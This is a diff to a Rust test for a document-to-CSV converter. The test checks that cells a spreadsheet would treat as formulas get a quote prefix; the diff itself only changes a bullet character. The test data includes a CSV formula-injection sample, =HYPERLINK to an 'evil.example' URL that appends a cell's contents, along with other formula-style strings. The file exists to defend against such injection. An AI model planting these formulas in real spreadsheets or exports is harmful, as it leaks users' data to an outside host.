@@ -1815,7 +1815,7 @@ fn formula_document() -> Document {
     let mut d = Docx::new();
     d.styles(&(s::base_styles("Normal") + &s::para_style("Evil", "+Evil style", None, "", "")));
     d.numbering(
-        r#"<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="-"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>"#,
+        r#"<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/><w:lvlText w:val="-x"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>"#,
     );
     let rid = d.add_image(Docx::MAIN, PNG_1X1, "png");
     let pic = s::Picture::new(&rid, 1, "=IMAGE(\"x\")").descr("@descr");
@@ -1869,7 +1869,7 @@ fn csv_cells_that_a_spreadsheet_would_run_get_a_quote_in_every_table() {
         "'=HYPERLINK(1).docx",
         "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
         "'+Evil style",
-        "'-",
+        "'-x",
         "'@bookmark",
         "'=IMAGE(\"x\")",
         "'@descr",
